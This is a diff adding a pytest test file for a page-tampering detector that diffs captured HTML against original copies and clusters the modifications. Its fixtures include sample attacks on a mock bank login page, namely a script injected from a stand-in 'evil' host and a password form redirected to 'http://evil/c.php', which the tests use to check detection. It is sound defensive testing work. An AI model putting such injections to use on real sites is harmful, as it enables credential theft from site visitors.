@@ -1,0 +1,108 @@
+"""Tests for fine-grained diff clustering."""
+
+from repro.core.acquisition import HttpCapture
+from repro.core.diffcluster import (
+    DiffProfile,
+    build_diff_profile,
+    diff_cluster,
+    tag_diff,
+)
+
+ORIGINAL = ("<html><head><title>Bank</title></head><body>"
+            "<h1>Bank</h1><p>welcome</p>"
+            "<form action=\"/login\"><input type=\"password\" "
+            "name=\"p\"></form></body></html>")
+
+
+def capture_with(body, domain="bank.example", ip="9.9.9.9"):
+    return HttpCapture(domain, ip, "5.5.5.5", status=200, body=body)
+
+
+class TestTagDiff:
+    def test_identical_pages_no_diff(self):
+        added, removed = tag_diff(ORIGINAL, ORIGINAL)
+        assert not added
+        assert not removed
+
+    def test_injected_script_detected(self):
+        modified = ORIGINAL.replace(
+            "<body>", "<body><script src=\"http://evil/x.js\"></script>")
+        added, removed = tag_diff(modified, ORIGINAL)
+        assert added["script"] == 1
+        assert not removed
+
+    def test_removed_form_detected(self):
+        modified = ORIGINAL.replace(
+            "<form action=\"/login\"><input type=\"password\" "
+            "name=\"p\"></form>", "")
+        added, removed = tag_diff(modified, ORIGINAL)
+        assert removed["form"] == 1
+        assert removed["input"] == 1
+
+    def test_attribute_change_is_replace(self):
+        modified = ORIGINAL.replace('action="/login"',
+                                    'action="http://evil/c.php"')
+        added, removed = tag_diff(modified, ORIGINAL)
+        assert added["form"] == 1
+        assert removed["form"] == 1
+
+
+class TestDiffProfile:
+    def test_modification_size(self):
+        modified = ORIGINAL.replace("<body>", "<body><script></script>")
+        profile = build_diff_profile(capture_with(modified), [ORIGINAL])
+        assert profile.modification_size == 1
+        assert profile.added["script"] == 1
+
+    def test_best_ground_truth_selected(self):
+        other_truth = "<html><title>Unrelated</title><body><table>" \
+            "<tr><td>x</td></tr></table></body></html>"
+        modified = ORIGINAL.replace("<body>", "<body><script></script>")
+        profile = build_diff_profile(capture_with(modified),
+                                     [other_truth, ORIGINAL])
+        # Diffed against the similar truth, not the unrelated one.
+        assert profile.modification_size <= 2
+
+    def test_requires_truth(self):
+        import pytest
+        with pytest.raises(ValueError):
+            build_diff_profile(capture_with(ORIGINAL), [])
+
+    def test_combined_multiset_signs(self):
+        profile = DiffProfile(capture_with("x"), {"script": 2},
+                              {"form": 1}, 0.9)
+        combined = profile.combined_multiset()
+        assert combined["+script"] == 2
+        assert combined["-form"] == 1
+
+
+class TestDiffClustering:
+    def test_same_modification_groups_across_sites(self):
+        # The same script injection on two different sites clusters
+        # together; a form swap clusters separately.
+        site_a = ORIGINAL
+        site_b = ("<html><head><title>Shop</title></head><body>"
+                  "<div>items</div><form action=\"/buy\">"
+                  "<input name=\"q\"></form></body></html>")
+        inject = "<script src=\"http://evil/x.js\"></script>"
+        profiles = [
+            build_diff_profile(
+                capture_with(site_a.replace("<body>", "<body>" + inject)),
+                [site_a]),
+            build_diff_profile(
+                capture_with(site_b.replace("<body>", "<body>" + inject),
+                             domain="shop.example"), [site_b]),
+            build_diff_profile(
+                capture_with(site_a.replace("<p>welcome</p>",
+                                            "<iframe src=\"x\"></iframe>"
+                                            "<blink>y</blink>")),
+                [site_a]),
+        ]
+        clusters, __ = diff_cluster(profiles, threshold=0.5)
+        assert len(clusters) == 2
+        sizes = sorted(len(c) for c in clusters)
+        assert sizes == [1, 2]
+
+    def test_empty_input(self):
+        clusters, __ = diff_cluster([], threshold=0.5)
+        assert clusters == []
